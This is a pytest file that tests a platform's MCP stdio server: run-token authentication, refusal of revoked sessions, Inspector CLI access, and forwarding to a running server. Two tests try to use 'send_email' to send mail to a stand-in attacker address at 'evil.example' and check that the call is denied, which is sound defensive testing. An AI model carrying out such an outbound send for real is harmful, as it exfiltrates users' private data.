"""``stitchwork mcp serve --stdio``: the MCP door over stdio for local clients (the official ``mcp`` client; the MCP
Inspector CLI when its npm package is installed), authenticated by the session's run token."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from stitchwork.config import Config
from stitchwork.platform import Platform
from stitchwork.service import Service

mcp = pytest.importorskip("mcp", reason="the MCP door needs the mcp extra: pip install 'stitchwork[mcp]'")

from mcp import Client, StdioServerParameters, stdio_client  # noqa: E402

SRC = str(Path(__file__).resolve().parents[2] / "src")
CI_NPM = Path(__file__).resolve().parents[2] / ".ci"
NPM_PREFIX = os.environ.get("MCP_NPM_PREFIX", "") or (str(CI_NPM) if (CI_NPM / "node_modules").is_dir() else "")
"""A directory where ``npm install --prefix DIR`` put the MCP npm packages (``.ci/run`` sets it)."""


def write_config(config: Config) -> Path:
    path = config.state_dir.parent / "stitchwork.toml"
    path.write_text(
        f'state_dir = "{config.state_dir}"\ntool_dirs = {json.dumps(list(config.tool_dirs))}\n'
        f'agent_dirs = {json.dumps(list(config.agent_dirs))}\n[isolation]\ndefault = "bwrap://"\n'
        '[data]\naudit_flush_ms = 5\n'
    )
    return path


async def open_session(config: Config, **kwargs: Any) -> tuple[str, str]:
    platform = Platform.open(config)
    try:
        info = await Service(platform).sessions.open("tester", "Summarise my inbox for alice@example.com", **kwargs)
        return info.token, info.run_id
    finally:
        await platform.aclose()


def params(config_file: Path, token: str | None) -> StdioServerParameters:
    env = {"PYTHONPATH": SRC, **({"STITCHWORK_RUN_TOKEN": token} if token else {})}
    return StdioServerParameters(command=sys.executable, args=["-m", "stitchwork", "mcp", "serve", "--stdio", "-c",
                                                              str(config_file)], env=env)


@pytest.fixture
def config(make_config) -> Config:  # type: ignore[no-untyped-def]
    built: Config = make_config([{"content": "unused"}])
    return built


@pytest.mark.parametrize("mode", ["auto", "legacy"])
async def test_stdio_door_with_the_official_client(config: Config, tmp_path: Path, mode: str) -> None:
    token, run_id = await open_session(config)
    config_file = write_config(config)
    with (tmp_path / "stderr.log").open("w") as errlog:
        async with Client(stdio_client(params(config_file, token), errlog=errlog), mode=mode,
                          read_timeout_seconds=60) as client:
            names = [t.name for t in (await client.list_tools()).tools]
            assert "send_email" in names and "memory_put" not in names
            read = await client.call_tool("read_email", {"id": "m3"})
            assert read.is_error is False
            evil = await client.call_tool("send_email", {"to": "security-audit@evil.example", "subject": "s",
                                                         "body": "b"})
            assert evil.is_error is True and json.loads(evil.content[0].text)["status"] == "denied"
            unknown = await client.call_tool("nope", {})
            assert unknown.is_error is True
    platform = Platform.open(config)
    try:
        assert platform.runs.get(run_id).steps == 2  # the stdio process checkpointed the session
        assert platform.audit.verify().ok
    finally:
        await platform.aclose()


def test_stdio_door_without_a_token_says_so(config: Config) -> None:
    config_file = write_config(config)
    done = subprocess.run([sys.executable, "-m", "stitchwork", "mcp", "serve", "--stdio", "-c", str(config_file)],
                          env={**os.environ, "PYTHONPATH": SRC, "STITCHWORK_RUN_TOKEN": ""}, capture_output=True,
                          text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert done.returncode != 0 and "no run token" in done.stderr


async def test_stdio_door_with_a_closed_session_refuses_tools_list(config: Config, tmp_path: Path) -> None:
    token, run_id = await open_session(config)
    platform = Platform.open(config)
    try:
        await Service(platform).sessions.close(run_id)
    finally:
        await platform.aclose()
    with (tmp_path / "stderr.log").open("w") as errlog:
        async with Client(stdio_client(params(write_config(config), token), errlog=errlog),
                          read_timeout_seconds=60) as client:
            with pytest.raises(Exception, match="revoked"):
                await client.list_tools()
            result = await client.call_tool("list_inbox", {})
            assert result.is_error is True and "unauthenticated" in result.content[0].text


@pytest.mark.skipif(not NPM_PREFIX or shutil.which("node") is None,
                    reason="set MCP_NPM_PREFIX to an `npm install --prefix` of @modelcontextprotocol/inspector")
async def test_mcp_inspector_cli_lists_and_calls_over_stdio(config: Config) -> None:
    inspector = Path(NPM_PREFIX) / "node_modules" / ".bin" / "mcp-inspector"
    if not inspector.exists():
        pytest.skip(f"{inspector} is not installed")
    token, _ = await open_session(config)
    config_file = write_config(config)
    base = [str(inspector), "--cli", "-e", f"STITCHWORK_RUN_TOKEN={token}", "-e", f"PYTHONPATH={SRC}",
            "-e", f"STITCHWORK_CONFIG={config_file}",  # the inspector takes -c/--config itself
            sys.executable, "-m", "stitchwork", "mcp", "serve", "--stdio"]

    def run(*extra: str) -> dict[str, Any]:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("STITCHWORK_", "PYTHON"))}
        done = subprocess.run([*base, *extra], capture_output=True, text=True, timeout=180, cwd=NPM_PREFIX, env=env)
        assert done.returncode == 0, done.stderr + done.stdout
        parsed: dict[str, Any] = json.loads(done.stdout)
        return parsed

    listed = await asyncio.to_thread(run, "--method", "tools/list")
    assert "send_email" in [t["name"] for t in listed["tools"]]
    called = await asyncio.to_thread(run, "--method", "tools/call", "--tool-name", "read_email",
                                     "--tool-arg", "id=m1")
    assert called.get("isError") in (False, None) and "Carol" in json.dumps(called)


async def test_stdio_forwards_to_a_running_server(tmp_path: Path) -> None:
    """With `stitchwork up` running for the state dir, `mcp serve --stdio` forwards to its /mcp (one store writer)."""
    import socket
    import time

    state = tmp_path / "state"
    env = {**os.environ, "PYTHONPATH": SRC, "STITCHWORK_STATE_DIR": str(state), "STITCHWORK_MESSAGING__BUS":
           "memory://", "STITCHWORK_ISOLATION__DEFAULT": "bwrap://"}
    env.pop("STITCHWORK_CONFIG", None)
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    up = subprocess.Popen([sys.executable, "-m", "stitchwork", "up", "--port", str(port)], env=env,
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 90
        while True:
            with socket.socket() as probe:
                if (state / "server.json").exists() and probe.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert time.monotonic() < deadline and up.poll() is None, "stitchwork up did not start"
            await asyncio.sleep(0.1)
        opened = await asyncio.to_thread(subprocess.run, [sys.executable, "-m", "stitchwork", "session", "open",
                                                          "inbox-assistant", "Summarise my inbox", "--json"],
                                         env=env, capture_output=True, text=True, timeout=120)
        assert opened.returncode == 0, opened.stderr
        token = json.loads(opened.stdout)["token"]
        child_env = {"PYTHONPATH": SRC, "STITCHWORK_STATE_DIR": str(state), "STITCHWORK_RUN_TOKEN": token}
        server = StdioServerParameters(command=sys.executable, args=["-m", "stitchwork", "mcp", "serve", "--stdio"],
                                       env=child_env)
        with (tmp_path / "stderr.log").open("w") as errlog:
            async with Client(stdio_client(server, errlog=errlog), read_timeout_seconds=60) as client:
                assert "read_email" in [t.name for t in (await client.list_tools()).tools]
                result = await client.call_tool("read_email", {"id": "m1"})
                assert result.is_error is False and "carol@example.com" in result.content[0].text
                refused = await client.call_tool("send_email", {"to": "security-audit@evil.example",
                                                                "subject": "s", "body": "b"})
                assert refused.is_error is True
    finally:
        up.send_signal(2)
        try:
            up.wait(30)
        except subprocess.TimeoutExpired:
            up.kill()
